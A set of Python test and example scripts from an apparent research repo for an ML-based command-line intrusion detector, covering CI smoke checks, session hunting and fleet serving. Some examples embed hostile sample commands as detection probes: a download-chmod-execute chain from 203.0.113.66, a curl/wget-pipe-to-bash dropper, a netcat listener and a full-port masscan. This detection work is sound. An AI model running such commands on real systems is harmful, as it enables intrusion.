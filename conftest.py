"""Repo-root pytest configuration.

Registers the ``--workers`` option the serving concurrency suite is
parameterized by: CI runs ``pytest tests/serving --workers 2`` so the
sharded process-pool scoring path is exercised on every push, and a
beefier box can crank it up (``--workers 8``) to stress the same tests
harder.
"""


def pytest_addoption(parser):
    parser.addoption(
        "--workers",
        type=int,
        default=2,
        help="scoring-worker count used by the parallel-backend serving tests",
    )
