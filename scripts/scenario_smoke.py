"""CI smoke for sequence-aware escalation against a real two-stage bundle.

Trains the tiny demo service *plus* a multi-line head, saves the
two-stage bundle, then checks the acceptance path end to end:

1. a bundle saved with a multi-line head loads with
   ``has_sequence_head`` and answers with the same fingerprint;
2. ``DetectionServer.from_config`` with ``session.mode = "sequence"``
   serves both stages: a burst host escalates on its composed command
   window (the escalating alert carries ``context`` and
   ``sequence_score``) while a benign host stays quiet;
3. the second stage ran only on flagged events;
4. the resolved config — new session fields included — round-trips
   losslessly through ``--print-config``.

Run from the repository root:

    PYTHONPATH=src python scripts/scenario_smoke.py
"""

import io
import json
import sys
import tempfile
from pathlib import Path

REPO_ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO_ROOT / "src"))

from repro.ids.pipeline import IntrusionDetectionService  # noqa: E402
from repro.serving import (  # noqa: E402
    CommandEvent,
    DetectionServer,
    ServingConfig,
    serve_stream,
)
from repro.serving.cli import serve_main  # noqa: E402
from repro.serving.demo import (  # noqa: E402
    DEMO_BENIGN,
    DEMO_MALICIOUS,
    build_two_stage_demo_service,
)

SEQUENCE_CONFIG = {
    "batch": {"max_batch": 8, "max_latency_ms": 10.0},
    "session": {
        "mode": "sequence",
        "sequence_threshold": 0.7,
        "escalation_threshold": 99,  # the count trigger stays out of reach
    },
}


def main() -> int:
    print("training the tiny two-stage demo service ...", flush=True)
    service = build_two_stage_demo_service()
    fingerprint = service.fingerprint()

    with tempfile.TemporaryDirectory(prefix="scenario-smoke-") as workdir:
        bundle = Path(workdir) / "bundle"
        service.save(bundle)
        assert (bundle / "multiline" / "head.npz").exists(), "bundle must ship stage 2"

        # 1. the two-stage bundle restores both stages
        restored = IntrusionDetectionService.load(bundle)
        assert restored.has_sequence_head, "loaded bundle lost its multi-line head"
        assert restored.fingerprint() == fingerprint, "two-stage fingerprint drifted"
        print("two-stage bundle round-trips (multiline/ head restored)")

        # 2. sequence-mode serving: burst host escalates, benign host doesn't
        config = ServingConfig.from_dict(SEQUENCE_CONFIG)
        server = DetectionServer.from_config(restored, config, record=False)
        events = [
            CommandEvent(line, host="victim", timestamp=float(i * 20))
            for i, line in enumerate(DEMO_MALICIOUS)
        ] + [
            CommandEvent(line, host="dev-1", timestamp=float(i * 20 + 5))
            for i, line in enumerate(DEMO_BENIGN)
        ]
        events.sort(key=lambda e: e.timestamp)
        results, server = serve_stream(restored, events, concurrency=1, server=server)
        assert len(results) == len(events)
        assert server.sessions.escalated_hosts() == ["victim"], (
            "exactly the burst host must escalate: "
            f"{server.sessions.escalated_hosts()}"
        )
        victim = server.sessions.session("victim")
        assert victim.escalated_by == "sequence"
        escalating = [
            r.alert
            for r in results
            if r.alert is not None and r.alert.sequence_score is not None
        ]
        assert escalating, "flagged events must carry sequence scores"
        explained = [a for a in escalating if a.context and " ; " in a.context]
        assert explained, "the escalating alert must carry its composed context"

        # 3. second stage ran exactly once per flagged event
        flagged = sum(r.is_intrusion for r in results)
        assert server.metrics.sequence_scored == flagged > 0
        assert server.metrics.sequence_escalations == 1
        print(
            f"sequence mode: {flagged} flagged events, "
            f"{server.metrics.sequence_scored} second-stage passes, "
            f"escalated host explains itself via composed context"
        )

        # 4. --print-config round-trips the session fields losslessly
        config_file = Path(workdir) / "serve.json"
        config_file.write_text(json.dumps(SEQUENCE_CONFIG))
        captured = io.StringIO()
        code = serve_main(
            ["--config", str(config_file), "--bundle", str(bundle), "--print-config"],
            stdout=captured,
        )
        assert code == 0, f"--print-config exited {code}"
        resolved = ServingConfig.from_dict(json.loads(captured.getvalue()))
        assert resolved == ServingConfig.from_file(config_file), (
            "resolved sequence config does not round-trip"
        )
        assert resolved.session.mode == "sequence"
        print("sequence session config round-trips through --print-config")

    print("scenario smoke OK")
    return 0


if __name__ == "__main__":
    sys.exit(main())
