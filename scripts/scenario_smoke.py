"""CI smoke for sequence-aware escalation against a real two-stage bundle.

Trains the tiny demo service *plus* a multi-line head, saves the
two-stage bundle, then checks the acceptance path end to end:

1. a bundle saved with a multi-line head loads with
   ``has_sequence_head`` and answers with the same fingerprint;
2. ``DetectionServer.from_config`` with ``session.mode = "sequence"``
   serves both stages: a burst host escalates on its composed command
   window (the escalating alert carries ``context`` and
   ``sequence_score``) while a benign host stays quiet;
3. the second stage ran only on flagged events;
4. the resolved config — new session fields included — round-trips
   losslessly through ``--print-config``;
5. a 2-shard server with autoscaling enabled boots from the same
   bundle, serves a multi-host stream across both shards, and drains
   cleanly — every submitted event answered, zero drops, every alert
   delivered;
6. an evaded multi-stage campaign (every step respelled by a verified
   :class:`EvasionMutator` technique) replayed through a 2-shard server
   is invisible to the raw pipeline but fully recalled once
   canonicalization is switched on — per-campaign recall strictly above
   the raw baseline.

Run from the repository root:

    PYTHONPATH=src python scripts/scenario_smoke.py
"""

import io
import json
import sys
import tempfile
from pathlib import Path

REPO_ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO_ROOT / "src"))

import numpy as np  # noqa: E402

from repro.ids.pipeline import IntrusionDetectionService  # noqa: E402
from repro.loggen import CampaignBuilder  # noqa: E402
from repro.serving import (  # noqa: E402
    CanonicalizeConfig,
    CommandEvent,
    DetectionServer,
    ServingConfig,
    serve_stream,
)
from repro.serving.cli import serve_main  # noqa: E402
from repro.serving.demo import (  # noqa: E402
    DEMO_BENIGN,
    DEMO_MALICIOUS,
    build_two_stage_demo_service,
)

SEQUENCE_CONFIG = {
    "batch": {"max_batch": 8, "max_latency_ms": 10.0},
    "session": {
        "mode": "sequence",
        "sequence_threshold": 0.7,
        "escalation_threshold": 99,  # the count trigger stays out of reach
    },
}


def main() -> int:
    print("training the tiny two-stage demo service ...", flush=True)
    service = build_two_stage_demo_service()
    fingerprint = service.fingerprint()

    with tempfile.TemporaryDirectory(prefix="scenario-smoke-") as workdir:
        bundle = Path(workdir) / "bundle"
        service.save(bundle)
        assert (bundle / "multiline" / "head.npz").exists(), "bundle must ship stage 2"

        # 1. the two-stage bundle restores both stages
        restored = IntrusionDetectionService.load(bundle)
        assert restored.has_sequence_head, "loaded bundle lost its multi-line head"
        assert restored.fingerprint() == fingerprint, "two-stage fingerprint drifted"
        print("two-stage bundle round-trips (multiline/ head restored)")

        # 2. sequence-mode serving: burst host escalates, benign host doesn't
        config = ServingConfig.from_dict(SEQUENCE_CONFIG)
        server = DetectionServer.from_config(restored, config, record=False)
        events = [
            CommandEvent(line, host="victim", timestamp=float(i * 20))
            for i, line in enumerate(DEMO_MALICIOUS)
        ] + [
            CommandEvent(line, host="dev-1", timestamp=float(i * 20 + 5))
            for i, line in enumerate(DEMO_BENIGN)
        ]
        events.sort(key=lambda e: e.timestamp)
        results, server = serve_stream(restored, events, concurrency=1, server=server)
        assert len(results) == len(events)
        assert server.sessions.escalated_hosts() == ["victim"], (
            "exactly the burst host must escalate: "
            f"{server.sessions.escalated_hosts()}"
        )
        victim = server.sessions.session("victim")
        assert victim.escalated_by == "sequence"
        escalating = [
            r.alert
            for r in results
            if r.alert is not None and r.alert.sequence_score is not None
        ]
        assert escalating, "flagged events must carry sequence scores"
        explained = [a for a in escalating if a.context and " ; " in a.context]
        assert explained, "the escalating alert must carry its composed context"

        # 3. second stage ran exactly once per flagged event
        flagged = sum(r.is_intrusion for r in results)
        assert server.metrics.sequence_scored == flagged > 0
        assert server.metrics.sequence_escalations == 1
        print(
            f"sequence mode: {flagged} flagged events, "
            f"{server.metrics.sequence_scored} second-stage passes, "
            f"escalated host explains itself via composed context"
        )

        # 4. --print-config round-trips the session fields losslessly
        config_file = Path(workdir) / "serve.json"
        config_file.write_text(json.dumps(SEQUENCE_CONFIG))
        captured = io.StringIO()
        code = serve_main(
            ["--config", str(config_file), "--bundle", str(bundle), "--print-config"],
            stdout=captured,
        )
        assert code == 0, f"--print-config exited {code}"
        resolved = ServingConfig.from_dict(json.loads(captured.getvalue()))
        assert resolved == ServingConfig.from_file(config_file), (
            "resolved sequence config does not round-trip"
        )
        assert resolved.session.mode == "sequence"
        print("sequence session config round-trips through --print-config")

        # 5. sharded + autoscaling deployment: clean boot, spread, drain
        sharded_config = ServingConfig.from_dict(
            {
                "batch": {"max_batch": 8, "max_latency_ms": 10.0},
                "cache": {"size": 1024, "admission": "tinylfu"},
                "shards": {"count": 2},
                "backend": {"kind": "threaded", "workers": 2},
                "autoscale": {
                    "enabled": True,
                    "min_workers": 1,
                    "max_workers": 4,
                    "interval_seconds": 0.05,
                },
                "sinks": ["ring://4096"],
            }
        )
        sharded = DetectionServer.from_config(restored, sharded_config, record=False)
        fleet_events = [
            CommandEvent(line, host=f"node-{i % 8}", timestamp=float(i))
            for i, line in enumerate((DEMO_BENIGN + DEMO_MALICIOUS) * 4)
        ]
        results, sharded = serve_stream(
            restored, fleet_events, concurrency=8, server=sharded
        )
        assert len(results) == len(fleet_events), (
            f"sharded server answered {len(results)}/{len(fleet_events)} events"
        )
        assert not any(r.dropped for r in results), "sharded drain dropped events"
        populated = [rt for rt in sharded.shards if rt.metrics.events_total > 0]
        assert len(populated) == 2, "both shards must carry traffic"
        flagged = sum(r.is_intrusion for r in results)
        stats = sharded.sinks.stats()
        delivered = sum(s.delivered for s in stats.values())
        lost = sum(s.dead_lettered + s.dropped for s in stats.values())
        assert delivered == flagged > 0 and lost == 0, (
            f"alert delivery across shards: {delivered}/{flagged} delivered, {lost} lost"
        )
        assert sharded.autoscaler is not None, "autoscaler must attach to the server"
        merged = sharded.metrics
        assert merged.events_total == len(fleet_events)
        print(
            f"2-shard autoscaling server: {len(fleet_events)} events across "
            f"{len(populated)} shards, {delivered} alerts delivered, 0 dropped, "
            f"{merged.autoscale_checks} autoscale checks, clean drain"
        )

        # 6. canonicalization closes the evasion gap on a staged campaign
        campaign = CampaignBuilder(seed=5).build_one("smoke-campaign", "victim-evade")
        assert any(step.technique is not None for step in campaign.steps), (
            "the campaign must actually evade"
        )

        class SignatureService:
            """Stage-1 oracle knowing only *canonical* attack spellings."""

            threshold = 0.5
            has_sequence_head = False

            def __init__(self, known):
                self.known = known

            def preprocess(self, raw):
                line = " ".join(raw.split())
                return line or None

            def score_normalized(self, lines):
                return np.array([0.9 if line in self.known else 0.1 for line in lines])

        signature_service = SignatureService({step.canonical for step in campaign.steps})
        campaign_events = [
            CommandEvent(line, host=campaign.host, timestamp=float(i * 10))
            for i, line in enumerate(campaign.lines)
        ] + [
            CommandEvent(line, host=f"dev-{i % 3}", timestamp=float(i * 10 + 5))
            for i, line in enumerate(DEMO_BENIGN)
        ]
        campaign_events.sort(key=lambda e: e.timestamp)
        recalls = {}
        for label, canonicalize in (("raw", None), ("canonical", CanonicalizeConfig(enabled=True))):
            server = DetectionServer(
                signature_service, max_latency_ms=5, shards=2, canonicalize=canonicalize
            )
            results, server = serve_stream(
                signature_service, campaign_events, concurrency=1, server=server
            )
            caught = sum(
                r.alert is not None for r in results if r.host == campaign.host
            )
            false_alarms = sum(
                r.alert is not None for r in results if r.host != campaign.host
            )
            assert false_alarms == 0, f"{label}: benign hosts must stay quiet"
            recalls[label] = caught / len(campaign.steps)
            if canonicalize is not None:
                assert server.metrics.canonicalized > 0
                assert server.metrics.canonicalize_failures == 0
        assert recalls["canonical"] > recalls["raw"], (
            f"canonicalization must beat the raw baseline: {recalls}"
        )
        assert recalls["canonical"] == 1.0, (
            f"every evaded campaign step must be recalled: {recalls}"
        )
        print(
            f"evaded campaign ({len(campaign.steps)} steps, 2 shards): "
            f"raw recall {recalls['raw']:.2f} -> canonicalized recall "
            f"{recalls['canonical']:.2f}, zero false alarms"
        )

    print("scenario smoke OK")
    return 0


if __name__ == "__main__":
    sys.exit(main())
