"""CI smoke for the multi-node fleet against real demo-service nodes.

Boots a two-node fleet over localhost TCP, streams a multi-host event
mix through the router, rolls a generation-fenced fleet swap while the
stream is live, and checks the acceptance path end to end:

1. ``examples/fleet.toml`` parses into both deployment views (the
   ``[fleet]`` table and the per-node serving config);
2. every submitted event is acknowledged — zero drops, zero orphans,
   nothing nacked into oblivion — and the in-flight window stayed
   bounded;
3. the rolling swap converges both nodes on generation 1 and **no
   acknowledged batch ever mixed model generations**;
4. the ``fleet-admin status`` CLI (the blocking channel, not the
   router's asyncio path) reports merged fleet totals equal to the sum
   of the per-node counters.

Run from the repository root:

    PYTHONPATH=src python scripts/fleet_smoke.py
"""

import asyncio
import io
import json
import sys
import tempfile
from pathlib import Path

REPO_ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO_ROOT / "src"))

from repro.fleet import FleetConfig, FleetNode, FleetRouter, load_fleet_file  # noqa: E402
from repro.fleet.cli import fleet_admin_main  # noqa: E402
from repro.serving import DetectionServer  # noqa: E402
from repro.serving.demo import DEMO_BENIGN, DEMO_MALICIOUS, build_demo_service  # noqa: E402

N_HOSTS = 10


def check(label: str, condition: bool) -> None:
    print(f"  {'PASS' if condition else 'FAIL'}  {label}")
    if not condition:
        sys.exit(1)


async def run_fleet(workdir: Path) -> None:
    print("== examples/fleet.toml parses into both views ==")
    fleet_view, serving_view = load_fleet_file(REPO_ROOT / "examples" / "fleet.toml")
    check("three nodes in the [fleet] table", len(fleet_view.nodes) == 3)
    check("serving tables survive the split", serving_view.shards.count == 2)

    print("== boot: two demo-service nodes ==")
    bundle_v2 = workdir / "bundle-v2"
    nodes = []
    for _ in range(2):
        server = DetectionServer(build_demo_service(), max_batch=16, max_latency_ms=10)
        node = FleetNode(server, port=0)
        await node.start()
        nodes.append(node)
    nodes[0].server.service.save(bundle_v2)
    config = FleetConfig(
        nodes=tuple(node.address for node in nodes),
        batch_max_events=16,
        batch_max_latency_ms=10.0,
    )

    events = [
        (line, f"host-{index % N_HOSTS:02d}")
        for index, line in enumerate((DEMO_BENIGN * 3 + DEMO_MALICIOUS * 2) * 2)
    ]

    print(f"== stream {len(events)} events, rolling swap mid-stream ==")
    async with FleetRouter(config, heartbeats=False) as router:
        half = len(events) // 2

        async def producer():
            for line, host in events[half:]:
                await router.submit(line, host)
                await asyncio.sleep(0.001)

        for line, host in events[:half]:
            await router.submit(line, host)
        feeder = asyncio.ensure_future(producer())
        reports = await router.swap_fleet(str(bundle_v2))
        await feeder
        await router.drain()

        acks = list(router.acks)
        stats = router.stats()
        acked = sum(client.events_acked for client in router._clients.values())

        check("every event acknowledged", acked == len(events))
        check("zero orphans, zero evictions", stats["orphaned_events"] == 0
              and stats["nodes_evicted"] == 0)
        check("nothing nacked into oblivion", stats["batches_nacked"] == 0)
        check("swap rolled both nodes to generation 1",
              [r["generation"] for r in reports] == [1, 1])
        check("no acknowledged batch mixed generations",
              bool(acks) and all(len(a["generations"]) == 1 for a in acks))
        check("both generations served live traffic",
              {a["generations"][0] for a in acks} == {0, 1})

        merged = await router.merged_metrics()
        per_node_alerts = sum(node.server.metrics.alerts for node in nodes)
        check("merged events_total equals the stream", merged.events_total == len(events))
        check("merged alerts equal the per-node sum", merged.alerts == per_node_alerts)
        check("fleet latency reservoir is populated", merged.latency_percentile(50) > 0)

    print("== fleet-admin status over the blocking channel ==")
    deployment = workdir / "fleet.toml"
    deployment.write_text(
        "[fleet]\nnodes = [%s]\n" % ", ".join(f'"{n.address}"' for n in nodes)
    )
    buffer = io.StringIO()
    # the CLI channel blocks; the nodes live on *this* loop, so give the
    # CLI its own thread exactly like a real external admin process
    code = await asyncio.to_thread(
        fleet_admin_main, ["--config", str(deployment), "status"], buffer
    )
    check("fleet-admin status exits 0", code == 0)
    status = json.loads(buffer.getvalue())
    check("status lists both nodes", len(status["nodes"]) == 2)
    check(
        "CLI merged totals equal the node sum",
        status["merged"]["events_total"]
        == sum(n["events_ingested"] for n in status["nodes"])
        == len(events),
    )
    check("fleet converged on one generation",
          {n["generation"] for n in status["nodes"]} == {1})

    for node in nodes:
        await node.stop()


def main() -> None:
    with tempfile.TemporaryDirectory(prefix="fleet-smoke-") as workdir:
        asyncio.run(run_fleet(Path(workdir)))
    print("\nfleet smoke: all checks passed")


if __name__ == "__main__":
    main()
