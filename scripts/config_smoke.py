"""CI smoke for the declarative serving API.

Trains the tiny demo service, saves it as a bundle, then checks the
acceptance path end to end:

1. ``repro-ids serve --config examples/serve.toml --bundle <dir>
   --print-config`` emits JSON that parses back to a config equal to
   ``ServingConfig.from_file("examples/serve.toml")`` (lossless
   resolution round-trip);
2. the same config builds a *running* ``DetectionServer`` via
   ``from_config`` — events stream through it and the configured
   ``jsonl://`` sink lands alerts on disk.

Run from the repository root:

    PYTHONPATH=src python scripts/config_smoke.py
"""

import io
import json
import os
import sys
import tempfile
from pathlib import Path

REPO_ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO_ROOT / "src"))

from repro.serving import DetectionServer, ServingConfig, serve_stream  # noqa: E402
from repro.serving.cli import serve_main  # noqa: E402
from repro.serving.demo import DEMO_BENIGN, DEMO_MALICIOUS, build_demo_service  # noqa: E402

CONFIG_FILE = REPO_ROOT / "examples" / "serve.toml"


def main() -> int:
    expected = ServingConfig.from_file(CONFIG_FILE)

    print("training the tiny demo service ...", flush=True)
    service = build_demo_service()

    with tempfile.TemporaryDirectory(prefix="config-smoke-") as workdir:
        bundle = Path(workdir) / "bundle"
        service.save(bundle)

        # 1. --print-config round-trip against the bundle
        captured = io.StringIO()
        code = serve_main(
            ["--config", str(CONFIG_FILE), "--bundle", str(bundle), "--print-config"],
            stdout=captured,
        )
        assert code == 0, f"--print-config exited {code}"
        resolved = ServingConfig.from_dict(json.loads(captured.getvalue()))
        assert resolved == expected, (
            f"resolved config does not round-trip:\n{resolved}\n!=\n{expected}"
        )
        print("--print-config output round-trips to an equal config")

        # 2. the config boots a real server (jsonl:// path is relative)
        os.chdir(workdir)
        server = DetectionServer.from_config(bundle, resolved)
        events = DEMO_BENIGN[:4] + DEMO_MALICIOUS * 2
        results, server = serve_stream(server.service, events, server=server)
        assert len(results) == len(events)
        assert server.metrics.alerts > 0, "malicious demo lines must alert"
        alerts_file = Path(workdir) / "alerts.jsonl"
        assert alerts_file.exists(), "configured jsonl:// sink must land on disk"
        assert server.sinks.failures == {}, server.sinks.snapshot()
        print(
            f"served {len(results)} events, {server.metrics.alerts} alerts "
            f"delivered through {len(server.sinks.sinks)} configured sinks"
        )

        # 3. the bundle now records the deployment it was served with
        reresolved = DetectionServer.from_config(bundle).config
        assert reresolved == expected, "bundle did not record its serving config"
        print("bundle metadata records the serving config")

    print("config smoke OK")
    return 0


if __name__ == "__main__":
    sys.exit(main())
