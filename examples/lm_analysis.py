#!/usr/bin/env python3
"""Looking inside the command-line language model.

Reproduces the Section II-B intuition pump: mask the first word of a
fetch-and-pipe dropper and ask the model to fill it in ("the masked
token is likely to be curl or wget"), then explore embedding-space
neighbourhoods and measure pseudo-perplexity on held-out telemetry.

Run:  python examples/lm_analysis.py
"""

from repro import WorldConfig, build_world
from repro.lm import EmbeddingExplorer, MaskedPredictor, pseudo_perplexity

CONFIG = WorldConfig(
    train_lines=6_000,
    test_lines=2_000,
    vocab_size=900,
    pretrain_epochs=4,
    tuning_subsample=2_000,
    top_vs=(10, 50),
    seed=9,
)


def main() -> None:
    print("building world (~2 minutes of MLM pre-training) ...")
    world = build_world(CONFIG)
    encoder = world.encoder

    print("\nSection II-B fill-in-the-blank: '[MASK] http://*/*.sh | bash'")
    predictor = MaskedPredictor(encoder)
    for prediction in predictor.paper_example(top_k=5):
        print(f"  {prediction.token:>12s}  p={prediction.probability:.3f}")

    print("\nmore masked queries:")
    for query in ("docker [MASK] -a", "chmod [MASK] run.sh"):
        top = predictor.predict(query, top_k=3)
        fillings = ", ".join(f"{p.token}({p.probability:.2f})" for p in top)
        print(f"  {query:<26s} -> {fillings}")

    print("\nembedding-space neighbours (the geometry retrieval relies on):")
    explorer = EmbeddingExplorer(encoder, list(set(world.train.lines()))[:2000])
    for probe in ("nc -lvnp 4444", "masscan 203.0.113.3 -p 0-65535"):
        print(f"  {probe}")
        for neighbour, similarity in explorer.neighbours(probe, k=3):
            print(f"      {similarity:.3f}  {neighbour[:70]}")

    train_ppl = pseudo_perplexity(encoder, world.train.lines()[:500])
    test_ppl = pseudo_perplexity(encoder, world.test_lines_dedup[:500])
    print(f"\npseudo-perplexity: train={train_ppl:.1f}  test={test_ppl:.1f} "
          "(close values = the LM generalises across the fleet)")


if __name__ == "__main__":
    main()
