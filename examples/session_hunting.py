#!/usr/bin/env python3
"""Session hunting: catch multi-step attacks with multi-line classification.

Section IV-C's motivating case: ``wget -c http://*/* -o python`` followed
by ``python`` — each line alone looks unremarkable, together they are a
download-rename-execute chain.  This example tunes both the single-line
and the multi-line classifier and shows how the session context changes
the verdict on exactly that chain.

Run:  python examples/session_hunting.py
"""

from datetime import datetime, timedelta

from repro import WorldConfig, build_world
from repro.experiments.methods import training_subset
from repro.loggen import CommandDataset, LogRecord
from repro.tuning import ClassificationTuner, MultiLineClassificationTuner, MultiLineComposer

CONFIG = WorldConfig(
    train_lines=4_000,
    test_lines=2_000,
    vocab_size=800,
    pretrain_epochs=2,
    tuning_subsample=2_500,
    top_vs=(10, 50),
    seed=5,
)


def suspicious_session() -> CommandDataset:
    """The paper's wget→python chain embedded in an ordinary session."""
    start = datetime(2022, 5, 30, 3, 12, 0)
    steps = [
        "cd /tmp",
        "wget -c http://203.0.113.66/payload -o python",
        "chmod +x python",
        "python",
    ]
    records = [
        LogRecord(line, "u0042", "m000007", start + timedelta(seconds=40 * i), session="hunt")
        for i, line in enumerate(steps)
    ]
    return CommandDataset(records)


def main() -> None:
    print("building world (~1 minute) ...")
    world = build_world(CONFIG)
    subset = training_subset(world, seed=0)

    single = ClassificationTuner(world.encoder, lr=1e-2, epochs=5, pooling="mean", seed=0)
    single.fit(subset.lines, subset.labels)

    composer = MultiLineComposer(window=3)
    multi = MultiLineClassificationTuner(
        world.encoder, composer=composer, lr=1e-2, epochs=5, pooling="mean", seed=0
    )
    train_ordered = world.train.sorted_by_time()
    multi.fit_dataset(train_ordered, world.ids.label(train_ordered.lines()))

    session = suspicious_session()
    single_scores = single.score(session.lines())
    multi_scores = multi.score_dataset(session)
    composed = composer.compose(session)

    print("\nthe download-rename-execute chain, line by line:")
    print(f"{'single':>8s} {'multi':>8s}   model input")
    for record, s_single, s_multi, sample in zip(session, single_scores, multi_scores, composed):
        print(f"{s_single:8.3f} {s_multi:8.3f}   {sample.text[:88]}")

    final_single, final_multi = single_scores[-1], multi_scores[-1]
    print("\nverdict on the final bare `python` execution:")
    print(f"  single-line classifier: {final_single:.3f} (no context — looks like any python run)")
    print(f"  multi-line classifier:  {final_multi:.3f} (sees the wget/chmod prelude)")
    if final_multi > final_single:
        print("  -> session context raised the alarm, as in Section IV-C")


if __name__ == "__main__":
    main()
