#!/usr/bin/env python3
"""SOC triage: rank a day of telemetry and hand the analyst a work queue.

The motivating workflow from the paper's introduction: the commercial
IDS fires on known signatures, but the security operations centre wants
a ranked queue of *everything else* worth human eyes — the out-of-box
intrusions.  This example builds the queue three ways (classification,
retrieval, ensemble) and prints the top alerts with the generator's
ground truth revealed for scoring.

Run:  python examples/soc_triage.py
"""

import numpy as np

from repro import WorldConfig, build_world
from repro.experiments.methods import run_classification, run_retrieval
from repro.tuning import rank_normalize

CONFIG = WorldConfig(
    train_lines=4_000,
    test_lines=2_500,
    vocab_size=800,
    pretrain_epochs=2,
    tuning_subsample=2_500,
    top_vs=(10, 50),
    seed=3,
)

QUEUE_DEPTH = 12


def print_queue(title: str, scores: np.ndarray, world) -> None:
    """Print the top-of-queue with ground truth for self-scoring."""
    candidates = np.nonzero(~world.inbox_mask)[0]  # IDS already handled in-box
    order = candidates[np.argsort(-scores[candidates])][:QUEUE_DEPTH]
    lines = world.test_lines_dedup
    hits = int(world.truth[order].sum())
    print(f"\n{title} — {hits}/{QUEUE_DEPTH} of the queue are real intrusions")
    for index in order:
        marker = "!!" if world.truth[index] else "  "
        print(f"  {marker} {scores[index]:.3f}  {lines[index][:84]}")


def main() -> None:
    print("building world (this trains the LM; ~1 minute) ...")
    world = build_world(CONFIG)
    ids_report = world.ids.coverage_report(world.test_lines_dedup, world.truth)
    print(f"commercial IDS alone: precision={ids_report['precision']:.2f} "
          f"recall={ids_report['recall']:.2f} — the gap is the out-of-box queue")

    classification = run_classification(world, seed=0)
    retrieval = run_retrieval(world)
    ensemble = (rank_normalize(classification) + rank_normalize(retrieval)) / 2.0

    print_queue("classification-based queue", classification, world)
    print_queue("retrieval-based queue (1NN to known-bad)", retrieval, world)
    print_queue("ensemble queue (Sec. V-C future work)", ensemble, world)


if __name__ == "__main__":
    main()
