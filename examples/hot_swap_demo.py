"""The weekly continual-learning hand-off against a live server.

The paper's loop: the deployed LM "continuously learn[s] from tens of
millions of user command lines every week".  This demo runs that story
end to end without dropping an event:

1. train the miniature demo service and deploy it behind a
   ``DetectionServer`` whose micro-batches shard across two worker
   processes (``ProcessPoolBackend``);
2. stream telemetry at it from concurrent producers;
3. mid-stream, run one ``ContinualLearner`` weekly update (continued
   MLM pre-training + re-labeling + head re-tune), export the fresh
   model as a bundle, and ``swap_model`` the live server onto it;
4. keep streaming — post-swap events score on the new generation.

Run with::

    PYTHONPATH=src python examples/hot_swap_demo.py
"""

import asyncio
import tempfile
from datetime import datetime
from pathlib import Path

from repro.ids.commercial import CommercialIDS
from repro.lm.continual import ContinualLearner
from repro.loggen.dataset import CommandDataset
from repro.loggen.entities import LogRecord
from repro.serving import DetectionServer, ProcessPoolBackend
from repro.serving.demo import DEMO_BENIGN, DEMO_MALICIOUS, build_demo_service

WEEK_TELEMETRY = DEMO_BENIGN * 4 + DEMO_MALICIOUS * 3


async def main() -> None:
    workdir = Path(tempfile.mkdtemp(prefix="hot-swap-demo-"))

    print("== week 0: train and deploy ==")
    service = build_demo_service()
    bundle_v1 = workdir / "bundle-week0"
    service.save(bundle_v1)
    print(f"deployed bundle {bundle_v1.name} (fingerprint {service.fingerprint()})")

    server = DetectionServer(
        service,
        backend=ProcessPoolBackend(bundle_v1, workers=2),
        max_batch=16,
        max_latency_ms=10,
    )

    stream = DEMO_BENIGN + DEMO_MALICIOUS
    results = []
    swap_done = asyncio.Event()
    producers = 4

    async def producer(worker_id: int) -> None:
        # stream continuously while the weekly update trains, then a
        # short tail so the new generation visibly serves traffic
        index = worker_id
        while not swap_done.is_set():
            line = stream[index % len(stream)]
            results.append(await server.submit(line, host=f"host-{worker_id}"))
            index += producers
            await asyncio.sleep(0.01)
        for line in stream[worker_id::producers]:
            results.append(await server.submit(line, host=f"host-{worker_id}"))

    def train_week() -> tuple[ContinualLearner, object]:
        learner = ContinualLearner(
            service.encoder, CommercialIDS(label_noise=0.0), head_epochs=4
        )
        week = CommandDataset(
            LogRecord(line, "u0001", "m000001", datetime(2024, 5, 6))
            for line in WEEK_TELEMETRY
        )
        return learner, learner.update(week)

    async def weekly_update() -> None:
        print("\n== weekly update: continue pre-training + re-tune (off-loop) ==")
        # train in a thread: the live stream keeps scoring on generation 0
        learner, report = await asyncio.to_thread(train_week)
        print(f"week {report.week}: {report.n_lines} lines, "
              f"{report.n_positive_labels} IDS positives, "
              f"{len(results)} events served during training")
        bundle_v2 = workdir / "bundle-week1"
        exported = learner.export_service(bundle_v2, threshold=0.5)
        print(f"exported bundle {bundle_v2.name} (fingerprint {exported.fingerprint()})")
        swap = await server.swap_model(str(bundle_v2))
        print(f"hot swap: generation {swap.generation}, {swap.swap_ms:.1f} ms "
              f"({swap.cache_invalidated} cache entries purged)")
        swap_done.set()

    async with server:
        await asyncio.gather(
            *(producer(worker_id) for worker_id in range(producers)),
            weekly_update(),
        )

    by_generation = {}
    for result in results:
        by_generation.setdefault(result.generation, []).append(result)
    print("\n== outcome ==")
    for generation, scored in sorted(by_generation.items()):
        alerts = sum(r.is_intrusion for r in scored)
        print(f"generation {generation}: {len(scored)} events, {alerts} alerts")
    print(server.metrics.render())


if __name__ == "__main__":
    asyncio.run(main())
