"""A three-node fleet surviving a rolling swap and a node crash.

The paper's deployment serves "tens of millions of user command lines
every week" — more than one process.  This demo runs the whole
multi-node story in a single Python process, over real localhost TCP:

1. train the miniature demo service and start **three**
   :class:`FleetNode` s, each wrapping its own ``DetectionServer``;
2. stream mixed telemetry through a :class:`FleetRouter` that
   consistent-hashes each event's host across the nodes;
3. mid-stream, roll a **fleet-wide model swap** one node at a time —
   traffic keeps flowing, no batch mixes model generations;
4. then **kill a node outright** — its unacknowledged batches are
   replayed to the survivors and only its hosts are reassigned;
5. drain and print the merged fleet metrics: exact totals and
   percentiles from every node's reservoir, dead node included.

Run with::

    PYTHONPATH=src python examples/fleet_demo.py
"""

import asyncio
import tempfile
from pathlib import Path

from repro.fleet import FleetConfig, FleetNode, FleetRouter
from repro.serving import DetectionServer
from repro.serving.demo import DEMO_BENIGN, DEMO_MALICIOUS, build_demo_service

TELEMETRY = DEMO_BENIGN * 3 + DEMO_MALICIOUS * 2
N_NODES = 3
N_HOSTS = 12


async def main() -> None:
    workdir = Path(tempfile.mkdtemp(prefix="fleet-demo-"))

    print("== deploy: one bundle, three nodes ==")
    service = build_demo_service()
    bundle_v2 = workdir / "bundle-v2"
    service.save(bundle_v2)

    nodes: list[FleetNode] = []
    for _ in range(N_NODES):
        server = DetectionServer(build_demo_service(), max_batch=16, max_latency_ms=10)
        node = FleetNode(server, port=0)
        await node.start()
        nodes.append(node)
        print(f"node {node.node_id} listening on {node.address}")

